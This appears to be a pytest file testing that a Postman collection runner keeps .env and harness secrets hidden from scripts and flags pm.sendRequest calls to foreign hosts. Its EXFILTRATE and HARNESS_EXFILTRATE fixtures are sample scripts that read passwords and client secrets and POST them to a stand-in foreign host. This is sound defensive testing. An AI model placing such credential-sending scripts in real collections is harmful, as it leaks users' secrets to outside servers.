"""Issue 14 item 4: ``.env`` secrets are not script-visible unless opted in, and ``pm.sendRequest`` to a
host outside the collection's targets is reported. A second loopback server plays the foreign host."""

from __future__ import annotations

import json
import secrets

import pytest

from harness.postman import CollectionRunner, load_collection
from tests.postman.helpers import LocalServer, build_app, collection, request_item

EXFILTRATE = """
const pw = pm.variables.get('CRM_PASSWORD');
pm.environment.set('seen', String(pm.variables.get('CRM_PASSWORD')));
pm.environment.set('seen_url', String(pm.variables.get('CRM_URL')));
pm.sendRequest({url: 'FOREIGN/echo', method: 'POST',
                body: {mode: 'raw', raw: String(pw)}}, function (err, res) {
    pm.environment.set('foreign_got', res ? res.json().body : String(err));
});
"""


@pytest.fixture(scope="module")
def foreign():
    srv = LocalServer(build_app()).start()
    yield srv
    srv.stop()


def _run(server, foreign, dotenv: dict[str, str]):
    items = [request_item("Exfiltrate", f"{server.url}/status/200", tests=EXFILTRATE.replace("FOREIGN", foreign.url))]
    runner = CollectionRunner(load_collection(collection(items)), dotenv_values=dotenv)
    with runner:
        result = runner.run()
    return runner, result


def test_env_secrets_are_not_visible_to_scripts(server, foreign, monkeypatch):
    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
    password = f"Canary-{secrets.token_hex(8)}"
    runner, result = _run(server, foreign, {"CRM_PASSWORD": password, "CRM_URL": "https://org.crm.dynamics.com"})
    assert runner.environment.get("seen") == "undefined"
    assert runner.environment.get("seen_url") == "https://org.crm.dynamics.com"  # not a secret: visible
    assert password not in json.dumps(runner.environment.values)
    (execution,) = result.executions
    warnings = [w for w in execution.warnings if "pm.sendRequest" in w]
    assert warnings and f"127.0.0.1:{foreign.port}" in warnings[0]
    assert runner.environment.get("foreign_got") == "undefined"  # what reached the foreign host


def test_a_secret_opted_in_by_name_is_visible(server, foreign, monkeypatch):
    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
    password = f"Canary-{secrets.token_hex(8)}"
    runner, _ = _run(server, foreign, {"CRM_PASSWORD": password, "HARNESS_SCRIPT_SECRETS": "CRM_PASSWORD"})
    assert runner.environment.get("seen") == password


def test_send_request_to_the_collections_own_host_is_not_reported(server):
    items = [request_item("Own", f"{server.url}/status/200",
                          tests=f"pm.sendRequest('{server.url}/status/204', function () {{}});")]
    runner = CollectionRunner(load_collection(collection(items)))
    with runner:
        (execution,) = runner.run().executions
    assert not [w for w in execution.warnings if "pm.sendRequest" in w]


HARNESS_EXFILTRATE = """
pm.environment.set('pw', String(pm.variables.get('password')));
pm.environment.set('secret', String(pm.variables.replaceIn('{{client_secret}}')));
pm.environment.set('user', String(pm.variables.get('username')));
pm.environment.set('sent_body', JSON.stringify(pm.request.toJSON()));
pm.sendRequest({url: 'FOREIGN/echo', method: 'POST',
                body: {mode: 'raw', raw: String(pm.variables.get('password')) + ' ' + JSON.stringify(pm.request.toJSON())}},
               function (err, res) { pm.environment.set('foreign_got', res ? res.json().body : String(err)); });
"""


@pytest.fixture(scope="module")
def recorder():
    """A loopback server that keeps every body it receives, unredacted (what really went over the wire)."""
    from starlette.applications import Starlette
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    received: list[str] = []

    async def echo(request):
        body = (await request.body()).decode("utf-8", errors="replace")
        received.append(body)
        return JSONResponse({"body": body})

    srv = LocalServer(Starlette(routes=[Route("/echo", echo, methods=["POST"])])).start()
    yield srv, received
    srv.stop()


def _run_harness_vars(server, foreign, dotenv: dict[str, str] | None = None):
    password, secret = f"Canary-{secrets.token_hex(8)}", f"Canary~{secrets.token_hex(8)}"
    body = {"mode": "urlencoded", "urlencoded": [{"key": "username", "value": "{{username}}"},
                                                  {"key": "password", "value": "{{password}}"},
                                                  {"key": "client_secret", "value": "{{client_secret}}"}]}
    items = [request_item("Sign in", f"{server.url}/echo", "POST", body=body,
                          tests=HARNESS_EXFILTRATE.replace("FOREIGN", foreign.url))]
    runner = CollectionRunner(load_collection(collection(items)), dotenv_values=dotenv or {},
                              harness_variables={"username": "ada@contoso.test", "password": password,
                                                 "client_secret": secret})
    with runner:
        result = runner.run()
    return runner, result, password, secret


def test_the_harness_password_and_client_secret_resolve_in_requests_but_not_in_scripts(recorder, foreign, monkeypatch):
    """Issue 14 item 4: {{password}}/{{client_secret}} (filled from .env in live runs) are sent where a
    request names them, but no script can read them, through variables or the sent request."""
    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
    own, received = recorder
    received.clear()
    runner, result, password, secret = _run_harness_vars(own, foreign)
    (execution,) = result.executions
    assert password in received[0] and secret in received[0].replace("%7E", "~")  # the request got the real values
    assert runner.environment.get("pw") == "undefined"
    assert runner.environment.get("secret") == "{{client_secret}}"  # unresolved, as for an unknown name
    assert runner.environment.get("user") == "ada@contoso.test"  # not a secret: visible
    assert password not in runner.environment.get("sent_body") and "***" in runner.environment.get("sent_body")
    assert password not in json.dumps(runner.environment.values) and secret not in json.dumps(runner.environment.values)
    assert password not in runner.environment.get("foreign_got") and secret not in runner.environment.get("foreign_got")
    hints = [w for w in execution.warnings if "list 'password' in HARNESS_SCRIPT_SECRETS" in w]
    assert hints and "scripts cannot see" in hints[0] and password not in hints[0]
    assert any("list 'client_secret' in HARNESS_SCRIPT_SECRETS" in w for w in execution.warnings)


def test_the_harness_password_is_script_visible_when_opted_in_by_name(server, foreign, monkeypatch):
    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
    runner, result, password, secret = _run_harness_vars(server, foreign, {"HARNESS_SCRIPT_SECRETS": "password"})
    assert runner.environment.get("pw") == password
    assert runner.environment.get("secret") == "{{client_secret}}"  # opted in per variable: only password
    (execution,) = result.executions
    assert not any("list 'password' in HARNESS_SCRIPT_SECRETS" in w for w in execution.warnings)


def test_the_opt_in_list_is_not_itself_taken_for_a_secret(server, foreign, monkeypatch):
    """HARNESS_SCRIPT_SECRETS=password names a secret; registering "password" as one would mask the
    word everywhere for the rest of the process."""
    from harness.secrets import redact

    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
    for opted in ("password", "password,client_secret"):
        _run_harness_vars(server, foreign, {"HARNESS_SCRIPT_SECRETS": opted})
        assert redact(f"grant_type=password; opted in: {opted}") == f"grant_type=password; opted in: {opted}"
